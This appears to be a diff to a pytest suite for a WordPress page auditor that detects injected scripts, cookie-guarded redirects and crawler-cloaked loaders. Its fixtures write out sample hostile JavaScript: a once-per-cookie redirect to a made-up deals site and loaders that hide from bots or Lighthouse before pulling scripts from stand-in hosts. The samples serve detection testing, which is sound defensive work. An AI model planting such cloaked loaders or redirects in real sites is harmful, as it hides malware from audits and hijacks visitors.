@@ -1226,7 +1226,7 @@ GATES += [
 @pytest.mark.parametrize(("name", "code", "severity"), GATES, ids=[g[0] for g in GATES])
 def test_a_gate_sending_visitors_without_its_cookie_is_no_cloaking(
         name: str, code: str, severity: Severity, audit_listed: AuditListed) -> None:
-    """A cookie-guarded redirect read `high` ("only for visitors whose cookies passes a
+    """A cookie-guarded redirect read `high` ("only for visitors whose cookie passes a
     test") for every age, consent, region and sign-in gate; `low` needs the gate's site
     shown beside it, else both names are the kit's to pick."""
     report = audit_listed(wp_page(head=f"<script>{code}</script>",
@@ -1277,6 +1277,17 @@ def test_a_redirect_once_cookie_injection_stays_high(code: str,
                                                      audit_listed: AuditListed) -> None:
     report = audit_listed(wp_page(head=f"<script>{code}</script>"), URL)
     assert ("redirect", H) in [(f.kind, f.severity) for f in report.findings], report.findings
+
+
+def test_a_cookie_guarded_redirect_says_whose_cookie(audit_listed: AuditListed) -> None:
+    """The message names the test in the singular it reads (it said "whose cookies passes
+    a test")."""
+    code = ("if(document.cookie.indexOf('_vis=1')==-1){document.cookie='_vis=1; path=/; "
+            "max-age=86400';window.location.href='https://best-deals-now.example/go?s=1';}")
+    report = audit_listed(wp_page(head=f"<script>{code}</script>"), URL)
+    assert [f.message for f in report.findings if f.kind == "redirect"] == [
+        "script redirects the visitor to best-deals-now.example only for visitors whose "
+        "cookie passes a test: https://best-deals-now.example/go?s=1"]
 
 
 def test_a_gate_written_after_the_markup_stays_high(audit_listed: AuditListed) -> None:
@@ -1872,14 +1883,19 @@ def test_a_script_after_the_sites_own_code_before_a_late_charset_is_the_template
     # shares (an injector that reads the page and writes one: was no finding)
     '<link rel="stylesheet" href="/a/x.css">' + BALADA_PLAIN,
     f'<script src="{SITE}/assets/k7/loader.js"></script>' + BALADA_PLAIN,
+    # many fresh files in a fresh folder, as many as a template's, all at the head's top
+    # with the blob and none past it (was no finding: the folder counted its own lines)
+    '<link rel="stylesheet" href="/a/css/1.css"><link rel="stylesheet" href="/a/css/2.css">'
+    '<script src="/a/js/3.js"></script>' + BALADA_PLAIN,
 ], ids=["a root stylesheet before an inline loader", "a root stylesheet before a tag",
         "a copy of the theme's stylesheet", "a fresh folder's stylesheet",
-        "a fresh folder's script"])
+        "a fresh folder's script", "a fresh folder's many files"])
 def test_a_file_line_an_injector_writes_first_does_not_end_the_heads_top(
         head_top: str, audit_listed: AuditListed) -> None:
     """The head's top run ends at the template's own first file, not at any line of the
-    site's host: a stylesheet `/x.css` at the site's root, or a second copy of a file the
-    template loads, written before a blob is the blob's, which stays at the head's top."""
+    site's host: a stylesheet `/x.css` at the site's root, a second copy of a file the
+    template loads, or files of a folder nothing past the head's top loads from, written
+    before a blob, are the blob's, which stays at the head's top."""
     assert [f.severity for f in audit_listed(wp_page(head_top=head_top), URL).findings
             if f.kind == "appended-script"] == [M]
 
@@ -2464,6 +2480,7 @@ _LATE_CHARSET_HEAD = """<!DOCTYPE html>
 <title>Seven ways to convert traffic</title>
 <meta name="description" content="Conversions matter more than traffic.">
 <meta http-equiv="content-type" content="text/html; charset=UTF-8">
+<link href="/static/css/article.css?2014" rel="stylesheet" type="text/css">
 </head><body><article><h1>Seven ways to convert traffic</h1>""" + _PARA + """</article>
 </body></html>"""
 
@@ -2501,3 +2518,82 @@ def test_a_late_charset_templates_relative_files_are_its_own_with_no_page_url(
     found = [f for f in audit_listed(page, None).findings  # type: ignore[arg-type]
              if f.kind == "appended-script"]
     assert [f.evidence for f in found] == ["https://cdn.statsync.test/loader/statsync.js"], found
+
+
+def test_a_file_invented_in_the_templates_own_folder_reads_as_the_templates(
+        audit_listed: AuditListed) -> None:
+    """Why no line on the page tells an injector's invented file in the template's own
+    build folder (`/wp-content/themes/gazette/k7.css`, then its blob) from the template's
+    first file: the folder is the template's, vouched for by the theme's files past the
+    charset; the file is loaded once, as the template prints each of its files; a shared
+    version or build hash is no test, for WordPress stamps each file with its own
+    package's (`style.css?ver=5.1` beside `jquery.js?ver=1.12.4`) and a bundler each with
+    its own content hash (`main.8c1d.css` beside `main.2b7e.js`), and either is copied
+    as cheaply as the folder. Whether the file exists is the server's to show, not the
+    page's. So both read alike, the blob's tag after either being in the template's order;
+    the injector's blob is still read by its host and code (`_appended_verdict`) and the
+    other heuristics."""
+    rest = (f'<link rel="stylesheet" href="{SITE}/wp-content/themes/gazette/style.css?ver=5.1">'
+            f'<script src="{SITE}/wp-includes/js/jquery/jquery.js?ver=1.12.4"></script>')
+    tag = '<script src="https://stay.linestoget.test/scripts/check.js"></script>'
+    own = _late_charset_page(
+        f'<link rel="stylesheet" href="{SITE}/wp-content/themes/gazette/blocks.css?ver=5.1">'
+        + tag, rest)
+    invented = _late_charset_page(
+        f'<link rel="stylesheet" href="{SITE}/wp-content/themes/gazette/k7.css">' + tag, rest)
+    verdicts = [[f.severity for f in audit_listed(page, URL).findings
+                 if f.kind == "appended-script"] for page in (own, invented)]
+    assert verdicts == [[], []]
+
+
+# a loader hidden from crawlers and page audits: a user-agent test for their names before
+# another site's script (made-up hosts; the shapes a scraper's injected kit writes)
+_CRAWLER_CLOAKED = {
+    "document.write behind a bot test": (
+        "<script>if(!/bot|crawl|spider/i.test(navigator.userAgent)){document.write('<scr'+'ipt "
+        "src=\"https://cdn.quick-load.example/p.js\"></scr'+'ipt>');}</script>"),
+    "a script element behind a Lighthouse test": (
+        "<script>if(navigator.userAgent.indexOf('Chrome-Lighthouse')==-1){var s=document."
+        "createElement('script');s.src='https://go.popflow.example/tag.js?z=8812';document.body."
+        "appendChild(s);}</script>"),
+    "an early return for headless browsers": (
+        "<script>(function(){var u=navigator.userAgent;if(/HeadlessChrome|Googlebot/.test(u))"
+        "return;var s=document.createElement('script');s.async=true;s.src='//cdn.quick-load."
+        "example/q.js';document.head.appendChild(s);})();</script>"),
+}
+
+
+@pytest.mark.parametrize("name", sorted(_CRAWLER_CLOAKED))
+def test_a_loader_hidden_from_crawlers_is_medium(name: str, audit_listed: AuditListed) -> None:
+    """Another site's script loaded only where the user agent is no crawler's or audit's
+    is a cloaked loader, worth a look (it was no finding: a third-party script the page's
+    code loads is the page's business, and the test before it went unread)."""
+    report = audit_listed(wp_page(widget=_CRAWLER_CLOAKED[name]), URL)
+    found = [f for f in report.findings if f.kind == "tds-loader"]
+    assert [f.severity for f in found] == [M], report.findings
+    assert "crawler" in found[0].message and "check the site chose" in found[0].message
+
+
+@pytest.mark.parametrize("code", [
+    # the same loader with no user-agent test: a site's own third-party tag
+    "<script>var s=document.createElement('script');s.src='https://cdn.quick-load.example/q.js';"
+    "document.head.appendChild(s);</script>",
+    # a test of the device, not of a crawler
+    "<script>if(/Android|iPhone/i.test(navigator.userAgent)){var s=document.createElement("
+    "'script');s.src='https://cdn.quick-load.example/m.js';document.head.appendChild(s);}"
+    "</script>",
+    # a vendor the catalogue knows, spared to crawlers
+    "<script>if(!/bot|crawl|spider/i.test(navigator.userAgent)){var s=document.createElement("
+    "'script');s.src='https://www.googletagmanager.com/gtag/js?id=G-ABCDE12345';document.head"
+    ".appendChild(s);}</script>",
+    # a crawler test far before the load, in another part of a bundle
+    "<script>var isBot=/bot|crawl/i.test(navigator.userAgent);" + "var pad=0;" * 80
+    + "var s=document.createElement('script');s.src='https://cdn.quick-load.example/q.js';"
+    "document.head.appendChild(s);</script>",
+], ids=["no user-agent test", "a device test", "a known vendor", "a test far away"])
+def test_a_loader_not_hidden_from_crawlers_is_none(code: str, audit_listed: AuditListed
+                                                   ) -> None:
+    """No crawler test before the address, a test of the device, a vendor the lists know:
+    no cloaked loader."""
+    report = audit_listed(wp_page(widget=code), URL)
+    assert [f for f in report.findings if f.kind == "tds-loader"] == [], report.findings
